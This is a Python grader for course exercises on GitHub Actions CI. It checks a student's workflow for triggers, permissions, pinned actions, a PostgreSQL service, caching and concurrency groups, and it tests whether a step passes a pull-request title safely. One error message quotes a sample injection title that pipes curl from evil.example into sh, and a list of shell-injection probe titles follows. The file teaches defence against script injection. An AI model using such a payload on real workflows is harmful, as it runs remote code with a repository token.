"""Checks for chapter 19 — CI: a workflow for the task API (lint, tests on a PostgreSQL service, a dependency cache, a
concurrency group), and a step that passes untrusted input safely.

Each workflow is read as GitHub reads it (the workflow schema, actionlint), its required parts are checked one by one,
then its `run:` steps run in a scratch clone of the sample project (course_lib/lab/ci_sample) and must pass.
"""

from __future__ import annotations

import json
import re
import shutil
import sys
import tempfile
from fnmatch import fnmatchcase
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

from course_lib.lab.workflows import (
    POSTGRES_SCHEMES,
    SAMPLE_PROJECT,
    Event,
    WorkflowError,
    actionlint,
    expressions,
    is_postgres,
    iter_steps,
    parse,
    run_steps,
    schema_errors,
    service_ports,
    substitute,
    triggers,
)
from course_lib.notebook.exercises import Exercise, Incorrect

UNTRUSTED = re.compile(r"github\s*\.\s*(event\s*\.|head_ref\b)|github\s*\[\s*'(event|head_ref)'", re.I)
PINNED = re.compile(r"^(v\d+(\.\d+){0,2}|[0-9a-f]{40})$")


def _read(text: Any) -> dict[str, Any]:
    """The workflow's data once it is YAML GitHub accepts: schema, untrusted input, then actionlint."""
    if not isinstance(text, str):
        raise Incorrect("give the workflow as a YAML text (a str).", expected="a str", got=type(text).__name__)
    try:
        data = parse(text)
    except WorkflowError as error:
        raise Incorrect(f"GitHub cannot read this workflow: {error}", request="yaml.load(workflow)") from None
    errors = schema_errors(text)
    if errors:
        raise Incorrect(
            "the workflow breaks GitHub's workflow schema: GitHub would refuse to run it.",
            request="check-jsonschema --builtin-schema vendor.github-workflows",
            expected="no errors",
            got=errors[:3],
        )
    for job_id, _, step in iter_steps(data):
        for expression in expressions(str(step.get("run", ""))):
            if UNTRUSTED.search(expression):
                raise Incorrect(
                    f"${{{{ {expression} }}}} is pasted into the script before bash reads it: anyone who opens a "
                    'pull request chooses that text, and a title like `"; curl evil.example | sh; echo "` runs as '
                    "code with the job's token. Pass it in env: and read it as a quoted variable.",
                    request=f"jobs.{job_id}, step {step.get('name') or step.get('run')!r}",
                    expected="no ${{ github.event.* }} or ${{ github.head_ref }} inside run:",
                    got=f"${{{{ {expression} }}}}",
                )
    findings = actionlint(text)
    if findings:
        raise Incorrect(
            "actionlint found problems GitHub would meet when it runs the workflow.",
            request="actionlint",
            expected="no findings",
            got=[str(finding) for finding in findings[:3]],
        )
    return data


def _check_triggers(data: dict[str, Any]) -> None:
    on = triggers(data)
    if "push" not in on:
        raise Incorrect(
            "the workflow never runs on push: what is merged into main is never tested. Add push (branches: [main]).",
            request="on:",
            expected="push and pull_request",
            got=sorted(on),
        )
    if "pull_request" not in on:
        raise Incorrect(
            "the workflow runs on push only: a pull request is never tested before it is merged (and a fork's "
            "branch is never pushed to your repository at all). Add pull_request.",
            request="on:",
            expected="push and pull_request",
            got=sorted(on),
        )
    for event, branch in (("push", "main"), ("pull_request", "main")):
        if not _runs_for(on[event], branch):
            raise Incorrect(
                f"the {event} trigger's branch filter leaves out {branch}: "
                + ("pushes to main" if event == "push" else "pull requests into main")
                + " would never run it.",
                request=f"on.{event}",
                expected=f"a filter that matches {branch} (or none)",
                got=on[event],
            )


def _runs_for(trigger: Any, branch: str) -> bool:
    """Whether an event's `branches` / `branches-ignore` filter lets `branch` through."""
    if not isinstance(trigger, dict):
        return True
    if "branches" in trigger:
        return any(fnmatchcase(branch, str(pattern)) for pattern in trigger["branches"] or [])
    if "branches-ignore" in trigger:
        return not any(fnmatchcase(branch, str(pattern)) for pattern in trigger["branches-ignore"] or [])
    return True


def _check_permissions(data: dict[str, Any]) -> None:
    permissions = data.get("permissions")
    if permissions is None:
        raise Incorrect(
            "no permissions: the job's GITHUB_TOKEN then gets the repository's default, often write access to "
            "contents, packages and more; a job that tests needs to read the code only. Add permissions: "
            "contents: read.",
            request="permissions:",
            expected={"contents": "read"},
            got=None,
        )
    granted = permissions if isinstance(permissions, dict) else {}
    writes = sorted(scope for scope, level in granted.items() if level == "write")
    if permissions == "read-all" or (
        isinstance(permissions, dict) and not writes and granted.get("contents") == "read"
    ):
        return
    raise Incorrect(
        "a job that lints and tests reads the code and writes nothing: permissions: contents: read (the checkout "
        "needs it), no write scope.",
        request="permissions:",
        expected={"contents": "read"},
        got=permissions,
    )


SUPPORTED_PYTHON = (3, 11)  # the sample's requires-python


def _check_setup(job_id: str, job: dict[str, Any]) -> None:
    """The job checks the code out and sets up a pinned Python the sample supports, before its first run: step."""
    steps = [step or {} for step in job.get("steps") or []]
    first_run = next(i for i, step in enumerate(steps) if "run" in step)
    actions = [str(step.get("uses", "")).split("@")[0] for step in steps[:first_run]]
    if "actions/checkout" not in actions:
        raise Incorrect(
            "a runner starts empty: check the code out (uses: actions/checkout@v5) before the first run: step, or "
            "the steps run in an empty directory. (Here the scratch clone stands in for it, so only this check "
            "sees it.)",
            request=f"jobs.{job_id}.steps",
            expected="uses: actions/checkout@v5 first",
            got=actions or None,
        )
    setup = next(
        (step for step in steps[:first_run] if str(step.get("uses", "")).startswith("actions/setup-python")), None
    )
    version = str(((setup or {}).get("with") or {}).get("python-version", ""))
    parts = tuple(int(part) for part in re.findall(r"\d+", version)[:2])
    if setup is None or len(parts) < 2 or parts < SUPPORTED_PYTHON:
        raise Incorrect(
            "set up the Python the project is tested on: actions/setup-python with a python-version the sample "
            "supports (requires-python >= 3.11). Without one the job takes whatever the runner image has, which "
            "changes with the image.",
            request=f"jobs.{job_id}: uses: actions/setup-python with: python-version",
            expected='"3.12" (3.11 or later)',
            got=version or None,
        )


def _check_pinned(data: dict[str, Any]) -> None:
    for job_id, _, step in iter_steps(data):
        if "uses" in step:
            name, _, ref = str(step["uses"]).partition("@")
            if not PINNED.match(ref):
                raise Incorrect(
                    f"{name}@{ref} is not pinned: a branch moves under you, and the next run uses code nobody "
                    "reviewed. Pin a release (@v5) or, stricter, a commit SHA.",
                    request=f"jobs.{job_id}: uses: {step['uses']}",
                    expected=f"{name}@v<major> or @<40-hex SHA>",
                    got=step["uses"],
                )


RUNS = {  # name → (event, what it stands for)
    "push to main #1": Event("push", "main", run_id=1),
    "push to main #2": Event("push", "main", run_id=2),
    "push to feature #3": Event("push", "feature", run_id=3),
    "pull request 7 #4": Event("pull_request", "feature", 7, run_id=4),
    "pull request 7 #5": Event("pull_request", "feature", 7, run_id=5),
    "pull request 8 #6": Event("pull_request", "other", 8, run_id=6),
    "docs workflow, push to main #7": Event("push", "main", workflow="docs", run_id=7),
}
SAME = [
    ("push to main #1", "push to main #2", "two pushes to main"),
    ("pull request 7 #4", "pull request 7 #5", "two pushes to pull request 7"),
]
APART = [
    ("push to main #1", "push to feature #3", "a push to main and a push to another branch"),
    ("pull request 7 #4", "pull request 8 #6", "two different pull requests"),
    ("push to main #1", "pull request 7 #4", "a push to main and a pull request"),
    ("push to main #1", "docs workflow, push to main #7", "this workflow and another one (groups are repository-wide)"),
]


def _check_concurrency(data: dict[str, Any], job: dict[str, Any]) -> None:
    concurrency = job.get("concurrency", data.get("concurrency"))
    if concurrency is None:
        raise Incorrect(
            "no concurrency group: a new push leaves the superseded run going (minutes of runner time), and its "
            "result can land after the newer one's.",
            request="concurrency:",
            expected="concurrency: {group: ..., cancel-in-progress: true}",
            got=None,
        )
    if isinstance(concurrency, str):
        concurrency = {"group": concurrency}
    if concurrency.get("cancel-in-progress") is not True:
        raise Incorrect(
            "without cancel-in-progress: true a new run only waits for the superseded one to finish, then runs "
            "after it: nothing is cancelled.",
            request="concurrency.cancel-in-progress",
            expected=True,
            got=concurrency.get("cancel-in-progress"),
        )
    group = str(concurrency.get("group", ""))
    groups = {}
    for name, event in RUNS.items():
        groups[name] = substitute(group, {"github": event.github(), "inputs": {}, "vars": {}, "env": {}})
    for first, second, what in SAME:
        if groups[first] != groups[second]:
            raise Incorrect(
                f"{what} get different groups, so the newer run never cancels the older: put what they share (the "
                "workflow and the ref) in the group, not what differs per run (github.run_id, github.sha).",
                request=f"concurrency.group {group!r} for {first} and {second}",
                expected="one group",
                got=[groups[first], groups[second]],
            )
    for first, second, what in APART:
        if groups[first] == groups[second]:
            raise Incorrect(
                f"{what} share one group, so one cancels the other though neither supersedes it: the group needs "
                "${{ github.workflow }} and ${{ github.ref }} (or head_ref for pull requests).",
                request=f"concurrency.group {group!r} for {first} and {second}",
                expected="two groups",
                got=groups[first],
            )


def _find(data: dict[str, Any], pattern: str) -> list[tuple[str, dict[str, Any], dict[str, Any], int]]:
    """(job id, job, step, index in the job) of every run: step whose script matches `pattern`."""
    found = []
    for job_id, job in (data.get("jobs") or {}).items():
        for index, step in enumerate((job or {}).get("steps") or []):
            if step and re.search(pattern, str(step.get("run", ""))):
                found.append((str(job_id), job, step, index))
    return found


INSTALL = r"pip3? install\b[^\n]*-r\s*\S*requirements\.txt"


def _check_steps(data: dict[str, Any]) -> tuple[str, dict[str, Any], dict[str, Any]]:
    """The lint and test steps exist, each after an install of requirements.txt in its job; the test step's job."""
    lint, tests = _find(data, r"\bruff\s+check\b"), _find(data, r"\bpytest\b")
    if not lint:
        raise Incorrect(
            "no lint step: run ruff check . (the sample project's linter, in its requirements.txt).",
            request="steps with run: ... ruff check",
            expected="a step that runs ruff check",
            got=None,
        )
    if not tests:
        raise Incorrect(
            "no test step: run the tests (python -m pytest).",
            request="steps with run: ... pytest",
            expected="a step that runs pytest",
            got=None,
        )
    installs = _find(data, INSTALL)
    for job_id, _, step, index in lint + tests:
        if not any(i_job == job_id and i_index < index for i_job, _, _, i_index in installs):
            raise Incorrect(
                "a runner starts with a bare Python: install the project's requirements (python -m pip install -r "
                "requirements.txt) in the job, before this step. (Here the kernel has them, so only this check sees "
                "it: on GitHub the step would fail with 'command not found'.)",
                request=f"jobs.{job_id}, step {step.get('name') or step.get('run')!r}",
                expected="a pip install -r requirements.txt step before it",
                got=None,
            )
    job_id, job, step, _ = tests[0]
    return job_id, job, step


OLDEST_POSTGRES = 14  # the oldest major version the PostgreSQL project still supports (13 ended in November 2025)


def _check_service(job_id: str, job: dict[str, Any]) -> tuple[str, dict[str, Any]]:
    services = job.get("services") or {}
    found = [(name, service) for name, service in services.items() if is_postgres(service)]
    if not found:
        raise Incorrect(
            "the test job has no PostgreSQL service container: the tests need a database. Add services: "
            "postgres: image: postgres:17 to the job that runs pytest.",
            request=f"jobs.{job_id}.services",
            expected="a service with image: postgres:<version>",
            got={name: (s or {}).get("image") for name, s in services.items()} or None,
        )
    name, service = found[0]
    image = str(service["image"])
    if ":" not in image.split("/")[-1] and "@" not in image:
        raise Incorrect(
            "pin the image's version: `postgres` alone is whatever `latest` is on the day the job runs, and a new "
            "major version of PostgreSQL arrives unannounced.",
            request=f"jobs.{job_id}.services.{name}.image",
            expected="postgres:17 (a major version at least)",
            got=image,
        )
    major = re.match(r"(\d+)", image.split("/")[-1].partition(":")[2])
    if major is not None and int(major.group(1)) < OLDEST_POSTGRES:
        raise Incorrect(
            f"PostgreSQL {major.group(1)} is not a supported release: test on the major version you run "
            f"({OLDEST_POSTGRES} or later; 17 is current).",
            request=f"jobs.{job_id}.services.{name}.image",
            expected="postgres:17",
            got=image,
        )
    env = service.get("env") or {}
    if not env.get("POSTGRES_PASSWORD") and env.get("POSTGRES_HOST_AUTH_METHOD") != "trust":
        raise Incorrect(
            "the postgres image refuses to start without POSTGRES_PASSWORD in its env:.",
            request=f"jobs.{job_id}.services.{name}.env",
            expected="POSTGRES_PASSWORD: ...",
            got=env or None,
        )
    options = str(service.get("options") or "")
    if "--health-cmd" not in options:
        raise Incorrect(
            "no health check: the runner starts the steps once the container runs, not once PostgreSQL accepts "
            "connections — unless the service has a health check, which it then waits for. Add options: "
            "--health-cmd pg_isready --health-interval 2s --health-retries 10.",
            request=f"jobs.{job_id}.services.{name}.options",
            expected="--health-cmd pg_isready ...",
            got=options or None,
        )
    if not job.get("container") and "5432" not in service_ports(service):
        raise Incorrect(
            "the job's steps run on the runner, not in a container: they reach the service only through a "
            "published port. Add ports: ['5432:5432'].",
            request=f"jobs.{job_id}.services.{name}.ports",
            expected=["5432:5432"],
            got=service.get("ports"),
        )
    return name, service


def _check_database_url(
    data: dict[str, Any], job_id: str, job: dict[str, Any], step: dict[str, Any], name: str, service: dict[str, Any]
) -> None:
    context = {
        "github": Event().github(),
        "secrets": {},
        "vars": {},
        "matrix": {},
        "job": {"services": {n: {"ports": service_ports(s or {})} for n, s in (job.get("services") or {}).items()}},
    }
    env: dict[str, str] = {}
    for level in (data.get("env"), job.get("env"), step.get("env")):
        for key, value in (level or {}).items():
            env[str(key)] = substitute(str(value), context | {"env": env})
    where = f"the env: of the test step (jobs.{job_id}, {step.get('name') or step.get('run')!r})"
    url = env.get("DATABASE_URL")
    if url is None:
        others = [key for key, value in env.items() if "://" in value]
        raise Incorrect(
            "the test step gets no DATABASE_URL: the sample's tests read DATABASE_URL to find the database"
            + (f" (you set {', '.join(others)}: a different name)" if others else "")
            + ". Set it in env: of the workflow, the job or the step.",
            request=where,
            expected="DATABASE_URL: postgresql://postgres:<password>@localhost:5432/<database>",
            got=env or None,
        )
    parts = urlsplit(url)
    service_env = service.get("env") or {}
    user = str(service_env.get("POSTGRES_USER") or "postgres")
    expected = {
        "scheme": POSTGRES_SCHEMES,
        "host": (name,) if job.get("container") else ("localhost", "127.0.0.1"),
        "port": "5432" if job.get("container") else service_ports(service).get("5432"),
        "user": user,
        "password": str(service_env.get("POSTGRES_PASSWORD") or ""),
        "database": str(service_env.get("POSTGRES_DB") or user),
    }
    try:
        port = str(parts.port or 5432)
    except ValueError:
        port = "?"
    got = {
        "scheme": parts.scheme,
        "host": parts.hostname or "",
        "port": port,
        "user": unquote(parts.username or ""),
        "password": unquote(parts.password or ""),
        "database": parts.path.lstrip("/"),
    }
    why = {
        "scheme": "DATABASE_URL must name PostgreSQL: postgresql://...",
        "host": f"the service is reached by its name ({name}) from a job container"
        if job.get("container")
        else "the steps run on the runner itself: the service's published port is on localhost, not behind its name",
        "port": "the URL's port must be the port the service publishes on the runner (ports: host:container)",
        "user": "the URL's user must be the service's (POSTGRES_USER, postgres by default)",
        "password": "the URL's password must be the service's POSTGRES_PASSWORD",
        "database": "the URL's database must be one the service creates (POSTGRES_DB, else the user's name)",
    }
    for part, wanted in expected.items():
        ok = (
            got[part] in wanted
            if isinstance(wanted, tuple)
            else (not wanted and part == "password") or got[part] == wanted
        )
        if not ok:
            raise Incorrect(
                f"{why[part]}.",
                request=f"DATABASE_URL in {where}",
                expected=wanted if not isinstance(wanted, tuple) else " or ".join(wanted),
                got=f"{part} {got[part]!r} in {url}",
            )


def _check_cache(job_id: str, job: dict[str, Any]) -> None:
    steps = [step or {} for step in job.get("steps") or []]
    install = next(i for i, step in enumerate(steps) if re.search(INSTALL, str(step.get("run", ""))))
    for step in steps[:install]:
        action = str(step.get("uses", "")).split("@")[0]
        options = step.get("with") or {}
        if action == "actions/setup-python" and options.get("cache") is not None:
            if options.get("cache") != "pip":
                raise Incorrect(
                    "setup-python's cache must be pip: it names the package manager whose cache it keeps.",
                    request=f"jobs.{job_id}, uses: {step['uses']} with: cache",
                    expected="pip",
                    got=options.get("cache"),
                )
            paths = str(options.get("cache-dependency-path") or "**/requirements.txt").split()
            _key_follows_lock_file(
                lambda root, paths=paths: "".join(
                    p.read_text() for pattern in paths for p in sorted(root.glob(pattern))
                ),
                job_id,
                step,
            )
            return
        if action == "actions/cache":
            if "pip" not in str(options.get("path", "")):
                raise Incorrect(
                    "the cache must hold pip's downloads: path: ~/.cache/pip.",
                    request=f"jobs.{job_id}, uses: {step['uses']} with: path",
                    expected="~/.cache/pip",
                    got=options.get("path"),
                )
            key = str(options.get("key", ""))
            _key_follows_lock_file(
                lambda root, key=key: substitute(key, {"runner": {"os": "Linux"}, "github": Event().github()}, root),
                job_id,
                step,
            )
            return
    raise Incorrect(
        "no dependency cache before the install: every run downloads every package again. Add cache: pip to "
        "setup-python (or an actions/cache step keyed on hashFiles('requirements.txt')).",
        request=f"jobs.{job_id}: the steps before the pip install",
        expected="setup-python with cache: pip, or actions/cache",
        got=None,
    )


def _key_follows_lock_file(key_of: Any, job_id: str, step: dict[str, Any]) -> None:
    """The cache key (or the files setup-python hashes) changes when requirements.txt changes."""
    scratch = Path(tempfile.mkdtemp(prefix="course-ch19-"))
    try:
        changed = scratch / "repo"
        shutil.copytree(SAMPLE_PROJECT, changed, ignore=shutil.ignore_patterns("__pycache__", ".ruff_cache"))
        before = key_of(changed)
        (changed / "requirements.txt").write_text((changed / "requirements.txt").read_text() + "rich==14.0.0\n")
        after = key_of(changed)
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
    if not before or before == after:
        raise Incorrect(
            "the cache is not keyed on the lock file: when requirements.txt changes the key must change, or a run "
            "restores yesterday's packages. Key it on requirements.txt (cache-dependency-path, or "
            "hashFiles('requirements.txt') in the key).",
            request=f"jobs.{job_id}, uses: {step['uses']}",
            expected="a key that changes with requirements.txt",
            got="the same key before and after" if before else "no file matched",
        )


def _progress(step: str) -> None:
    """A line per step in a notebook (the run takes a few seconds); nothing in a test run."""
    if type(sys.stdout).__module__.startswith("ipykernel"):
        print(f"running in a scratch clone of the sample: {step}", flush=True)


def _run(text: str) -> None:
    run = run_steps(text, progress=_progress)
    failed = run.failed
    if failed is not None:
        raise Incorrect(
            f"the step {failed.name!r} failed in a scratch clone of the sample project (the services remapped to "
            "this machine): on GitHub it would fail too.",
            request=f"{failed.job} › {failed.name}: {failed.command.strip()}",
            expected="exit 0",
            got=f"exit {failed.returncode}: {failed.tail(8)}",
        )
    tested = [s for s in run.steps if "pytest" in s.command and s.outcome == "passed"]
    if not any(re.search(r"\b\d+ passed\b", s.output) for s in tested):
        raise Incorrect(
            "the test step ran no test: run the sample's tests (python -m pytest) from the project's root.",
            request="the test step's output",
            expected="N passed",
            got=tested[0].tail(3) if tested else None,
        )


def _test_workflow(text: Any) -> None:
    data = _read(text)
    _check_triggers(data)
    _check_permissions(data)
    _check_pinned(data)
    job_id, job, step = _check_steps(data)
    for other_id, other in (data.get("jobs") or {}).items():
        if any("run" in (s or {}) for s in (other or {}).get("steps") or []):
            _check_setup(str(other_id), other or {})
    _check_concurrency(data, job)
    name, service = _check_service(job_id, job)
    _check_database_url(data, job_id, job, step, name, service)
    _check_cache(job_id, job)
    _run(text)


q1 = Exercise(
    "ch19.q1",
    "A workflow for the task API",
    _test_workflow,
    hint="on: push (branches: [main]) and pull_request; concurrency: group: ${{ github.workflow }}-${{ github.ref }}, "
    "cancel-in-progress: true; one job on ubuntu-24.04 with services: postgres: (image postgres:17, env "
    "POSTGRES_PASSWORD, ports ['5432:5432'], options --health-cmd pg_isready ...), env DATABASE_URL: "
    "postgresql://postgres:<password>@localhost:5432/postgres; steps: checkout@v5, setup-python@v6 with cache: pip, "
    "pip install -r requirements.txt, ruff check ., python -m pytest.",
)


TITLES = (
    "Add due dates to tasks",
    '"; echo INJECTED; echo "',
    "$(echo INJECTED)",
    "`echo INJECTED`",
    "fix  the * in titles",
    "it's $HOME; done",
)
GREETING = "Testing "


def _test_safe_step(text: Any) -> None:
    data = _read(text)
    if "pull_request" not in triggers(data):
        raise Incorrect(
            "keep the trigger: the workflow runs on pull_request.",
            request="on:",
            expected="pull_request",
            got=sorted(triggers(data)),
        )
    for title in TITLES:
        run = run_steps(text, event=Event("pull_request", "feature", 7, title=title, workflow="greet"))
        ran = [step for step in run.steps if step.outcome != "skipped"]
        printed = [line for step in ran for line in step.output.splitlines()]
        request = f"a pull request titled {title!r}"
        if run.failed is not None:
            raise Incorrect(
                "the step failed.",
                request=request,
                expected="exit 0",
                got=f"exit {run.failed.returncode}: {run.failed.tail(4)}",
            )
        if printed != [GREETING + title]:
            injected = any("INJECTED" in line for line in printed) and not any(
                "echo INJECTED" in line for line in printed
            )
            if injected or (("$" in title or "`" in title) and not any(title in line for line in printed)):
                why = (
                    "the title ran as code: bash parsed what the pull request's author wrote. Read it from an "
                    'environment variable, in double quotes ("$TITLE"): bash expands a variable once and never '
                    "parses its value."
                )
            else:
                why = (
                    'the title was changed on its way: quote the variable ("$TITLE"), or bash splits it into words '
                    "and expands the * into file names."
                )
            raise Incorrect(why, request=request, expected=[GREETING + title], got=printed)


q2 = Exercise(
    "ch19.q2",
    "Untrusted input out of the script",
    _test_safe_step,
    hint="Move the expression into env: of the step (TITLE: ${{ github.event.pull_request.title }}) and write run: "
    'echo "Testing $TITLE".',
)


PULL_REQUESTS_ONLY = {  # name → event
    "push to main #1": Event("push", "main", run_id=11),
    "push to main #2": Event("push", "main", run_id=12),
    "push to feature #3": Event("push", "feature", run_id=13),
    "push to feature #4": Event("push", "feature", run_id=14),
    "pull request 7 #5": Event("pull_request", "feature", 7, run_id=15),
    "pull request 7 #6": Event("pull_request", "feature", 7, run_id=16),
    "pull request 8 #7": Event("pull_request", "other", 8, run_id=17),
    "docs workflow, pull request 7 #8": Event("pull_request", "feature", 7, workflow="docs", run_id=18),
}
PUSH_HINT = "a push has no head_ref: give its run a group of its own (github.run_id is unique per run)"
PR_SAME = [("pull request 7 #5", "pull request 7 #6", "two pushes to pull request 7")]
PR_APART = [  # (one run, another, what they are, why they must not share a group)
    ("push to main #1", "push to main #2", "two pushes to main", f"every commit to main keeps its run; {PUSH_HINT}"),
    (
        "push to feature #3",
        "push to feature #4",
        "two pushes to a branch",
        f"a push's run is never cancelled; {PUSH_HINT}",
    ),
    ("push to feature #3", "pull request 7 #5", "a push to feature and pull request 7 from feature", PUSH_HINT),
    (
        "pull request 7 #5",
        "pull request 8 #7",
        "two different pull requests",
        "put the pull request's branch (github.head_ref) in the group",
    ),
    (
        "pull request 7 #5",
        "docs workflow, pull request 7 #8",
        "this workflow and another one on one pull request",
        "groups are repository-wide: put github.workflow in the group",
    ),
]


def _test_group(group: Any) -> None:
    if not isinstance(group, str) or "${{" not in group:
        raise Incorrect(
            "give the group as a str with ${{ }} expressions in it.",
            expected="a str like '${{ github.workflow }}-...'",
            got=group,
        )
    workflow = (
        "on: [push, pull_request]\npermissions:\n  contents: read\nconcurrency:\n"
        f"  group: {json.dumps(group)}\n  cancel-in-progress: true\njobs:\n  a:\n    runs-on: ubuntu-24.04\n"
        "    steps:\n      - run: 'true'\n"
    )
    findings = actionlint(workflow)
    if findings:
        raise Incorrect(
            "actionlint cannot read the group's expressions.",
            request="actionlint on a workflow with this concurrency group",
            expected="no findings",
            got=[finding.message for finding in findings],
        )
    groups = {
        name: substitute(group, {"github": event.github(), "inputs": {}, "vars": {}, "env": {}})
        for name, event in PULL_REQUESTS_ONLY.items()
    }
    for first, second, what in PR_SAME:
        if groups[first] != groups[second]:
            raise Incorrect(
                f"{what} get different groups, so the newer run never cancels the older: build the group from the "
                "pull request's branch (github.head_ref), not from what differs per run.",
                request=f"the group for {first} and {second}",
                expected="one group",
                got=[groups[first], groups[second]],
            )
    for first, second, what, why in PR_APART:
        if groups[first] == groups[second]:
            raise Incorrect(
                f"{what} share one group, so one would cancel the other: {why}.",
                request=f"the group for {first} and {second}",
                expected="two groups",
                got=groups[first],
            )


q3 = Exercise(
    "ch19.q3",
    "Cancel pull requests' runs only",
    _test_group,
    hint="${{ github.workflow }}-${{ github.head_ref || github.run_id }}: head_ref is set only for pull requests, "
    "and run_id is unique per run.",
)
